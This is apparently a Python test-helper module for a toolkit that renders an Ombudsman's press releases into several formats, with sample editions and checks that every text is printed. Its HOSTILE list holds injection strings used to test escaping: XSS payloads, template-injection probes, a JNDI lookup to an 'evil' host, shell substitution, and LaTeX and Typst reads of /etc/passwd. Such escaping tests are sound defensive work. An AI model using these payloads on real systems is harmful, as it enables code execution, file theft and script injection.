"""A small release of the Ombudsman's press service, as every format prints it."""

import datetime as dt
from dataclasses import replace
from io import BytesIO

from PIL import Image

from toolkit.format_files import FormatFiles
from toolkit.model import Alternate, Block, Edition, Period, Publication, Rendition, Span
from toolkit.particulars import plain
from toolkit.shipped import shipped_root

FOLDER = shipped_root() / "templates/formats"
LANGUAGES = {"az": "Azərbaycan dili", "en": "English", "ru": "Русский"}
LABELS = {
    "about": "About the institution",
    "attachments": "Documents",
    "calendar": "Calendar",
    "download": "Download",
    "search": "Search",
    "text_file": "Text",
    "for_media": "For the media",
    "contact": "Contact",
    "corrections": "Corrections",
    "home": "All press releases",
    "languages": "Languages",
    "number": "No.",
    "phone": "Telephone",
    "press_release": "Press release",
    "preview": "Preview: not for publication",
    "skip": "Skip to the text",
    "topics": "Topics",
    "unreviewed": "not reviewed",
}


def text(words, **style):
    """A text of one style."""
    return (Span(words, **style),)


EDITION = Edition(
    release="2020/guba-videoconference",
    kind="event",
    language="en",
    source_language="en",
    date=dt.date(2020, 7, 2),
    number="",
    title=Block("title", text("Videoconference held in Guba")),
    summary=(),
    dateline=Block("dateline", text("Guba, 2 July 2020")),
    blocks=(Block("paragraph", text("A videoconference was held.")),),
    boilerplate=(Block("paragraph", text("The Ombudsman protects human rights.")),),
    labels={"office_name": ()} | {key: text(words) for key, words in LABELS.items()},
    contact={"phone": "916"},
)


def template(name):
    """The text of a template of the toolkit."""
    return (FOLDER / name).read_text("utf-8")


asset = FormatFiles((shipped_root(),)).asset
"""The bytes of a file of the toolkit's formats."""


def edition(*blocks, **fields):
    """The release with other blocks or fields."""
    return replace(EDITION, **({"blocks": blocks} if blocks else {}), **fields)


def everywhere(words):
    """The fields of an edition that may hold any text, each with the same one, and its blocks."""
    blocks = (
        paragraph(words),
        Block("image", alt=words, caption=text(words), source="panel.jpg"),
    )
    return blocks, {
        "title": Block("title", text(words)),
        "dateline": Block("dateline", text(words)),
        "topics": Block("topics", children=(Block("topic", text(words)),)),
    }


def labels(**words):
    """The labels with some more."""
    return {**EDITION.labels, **{key: text(one) for key, one in words.items()}}


def paragraph(words, **fields):
    """A paragraph of one style."""
    return Block("paragraph", text(words), **fields)


def correction(words, day="2020-07-09", when="Corrected on 9 July 2020", **fields):
    """What readers are told of a text that was put right."""
    lead = text(when, strong=True)
    return Block("correction", (*lead, Span(". "), *text(words)), caption=lead, id=day, **fields)


def items(*children):
    """A list of texts and of `(text, list)` pairs."""
    return Block("list", children=tuple(_item(child) for child in children))


def _item(child):
    words, *below = (child,) if isinstance(child, str) else child
    return Block("item", text(words), children=tuple(below))


def table(header, *rows, caption="", numeric=None):
    """A table of texts."""
    return Block(
        "table",
        header=tuple(text(cell) for cell in header),
        rows=tuple(tuple(text(cell) if cell else () for cell in row) for row in rows),
        numeric=numeric or (False,) * len(header),
        caption=text(caption) if caption else (),
    )


def photograph(kind="JPEG", size=(120, 80), mode="RGB", **options):
    """The bytes of a picture."""
    written = BytesIO()
    shade = 200 if mode in {"1", "L", "P", "I;16"} else (200,) * len(mode)
    Image.new(mode, size, shade).save(written, kind, **options)
    return written.getvalue()


def renditions(release, source):
    """How the site shows a picture of a release: in two widths."""
    folder = f"pictures/{release}/{source}"
    return (Rendition(f"{folder}/480.jpg", 480, 320), Rendition(f"{folder}/960.jpg", 960, 640))


def quotation(*paragraphs):
    """A quotation over some paragraphs."""
    return Block("quote", children=tuple(paragraph(words) for words in paragraphs))


EVERYTHING = (
    paragraph("A videoconference was held."),
    Block("heading", text("Background")),
    Block(
        "paragraph",
        (
            Span("Plain, "),
            Span("strong", strong=True),
            Span(", "),
            Span("emphasis", emphasis=True),
            Span(", "),
            Span("the site", href="https://ombudsman.az/?a=1&b=2"),
            Span(" and "),
            Span("Уполномоченный", language="ru"),
            Span("."),
        ),
    ),
    quotation("“We agree.", "“All of us,” they said."),
    items("first", ("second", items("inner", ("deeper", items("deepest")))), "third"),
    table(
        ("Region", "Appeals"),
        ("Guba", "120"),
        ("Sheki", ""),
        caption="Appeals by region",
        numeric=(False, True),
    ),
    Block("image", alt="The panel at a table", caption=text("Guba, 2 July"), source="panel.jpg"),
)
"""A block of each kind."""


def full_edition(**fields):
    """An edition with everything an edition may have."""
    parts = {
        "number": "12",
        "summary": text("In short."),
        "topics": Block(
            "topics", children=(Block("topic", text("Human rights"), id="human-rights"),)
        ),
        "place": text("Guba"),
        "event": Period(dt.date(2020, 7, 9), starts=dt.time(10)),
        "embargo": dt.datetime(2020, 7, 2, 12, tzinfo=dt.UTC),
        "contacts": (
            Block("contact", (Span("Press, "), Span("p@example.org", href="mailto:p@example.org"))),
        ),
        "attachments": (Block("attachment", text("Report"), source="a b.pdf"),),
        "contact": {"phone": "916", "email": "press@example.org"},
        "labels": labels(office_name="Office of the Ombudsman", email="E-mail"),
    }
    return edition(*EVERYTHING, **{**parts, **fields})


def texts_of(edition):
    """Every text of an edition, in the order a reader meets it."""
    yield from (plain(edition.title.text), plain(edition.dateline.text))
    for block in (*edition.blocks, *edition.attachments, *edition.contacts, *edition.boilerplate):
        yield from _texts(block)
    yield from edition.contact.values()


def _texts(block):
    if block.kind == "table":
        yield plain(block.caption)
        for row in (block.header, *block.rows):
            yield from (plain(cell) for cell in row)
    yield from (plain(block.text), plain(block.caption) if block.kind == "image" else "")
    for child in block.children:
        yield from _texts(child)


def is_said(edition, printed):
    """Whether a document prints all texts of the edition in their order."""
    rest = squeezed(printed)
    for words in filter(None, texts_of(edition)):
        _, found, rest = rest.partition(squeezed(words))
        if not found:
            return False
    return True


def squeezed(words):
    """A text without blanks, line ends and the hyphens that may stand there."""
    return "".join(char for char in words if not (char.isspace() or char in "-\u00ad\u2010"))


HOSTILE = [
    "<script>alert(1)</script> & \"q\" 's'",
    "--><script>alert(1)</script><!--",
    "]]><evil/>",
    "</script></title></style><img src=1 onerror=alert(1)>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1">',
    "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &#x3C;",
    "{{ 7*7 }} {% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %} {# c #}",
    '{% trans %}x{% endtrans %} {{ _("x") }} %(x)s {_{ x }_} {_% x %_}',
    "Set {x} {0} {{y}} {x.__class__.__init__.__globals__} {:>99999999}",
    "${jndi:ldap://evil/a} $(id) `id`",
    "\\input{/etc/passwd} \\write18{id} $x_1$ % & # _ ~ ^",
    '#read("/etc/passwd") #eval("1") *b* _i_ @ref <label> = h // c /* d */ ~ ---',
    "[click](javascript:alert(1)) ![x](http://evil/x.png) `code` **b** # h",
    '=HYPERLINK("http://evil") =?utf-8?q?Bcc=3A?= +1 -1 @x',
]
"""Texts that are code somewhere; a document prints them letter by letter."""


def publication(
    *,
    preview=False,
    languages=("en",),
    release="2020/guba-videoconference",
    suffix=".html",
    **fields,
):
    """Where the document of the English edition stands, and which editions stand beside it."""
    return Publication(
        path=f"en/{release}{suffix}",
        alternates=tuple(Alternate(code, f"{code}/{release}{suffix}") for code in languages),
        base_url="https://press.example.org/",
        preview=preview,
        languages=LANGUAGES,
        fonts=(str(FOLDER / "fonts"),),
        **{
            "template": template,
            "asset": asset,
            "attached": lambda _: photograph(),
            "renditions": renditions,
            **fields,
        },
    )
